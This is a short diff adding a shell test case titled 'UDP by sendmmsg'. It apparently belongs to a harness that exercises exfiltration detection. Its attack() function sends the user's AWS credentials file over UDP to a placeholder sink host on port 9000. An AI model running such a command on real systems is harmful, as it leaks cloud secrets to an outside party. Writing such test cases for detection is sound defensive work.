@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="UDP by sendmmsg"
+attack() { "$PROVOKE/datagram" many "$HOME/.aws/credentials" "$SINK4" 9000; }
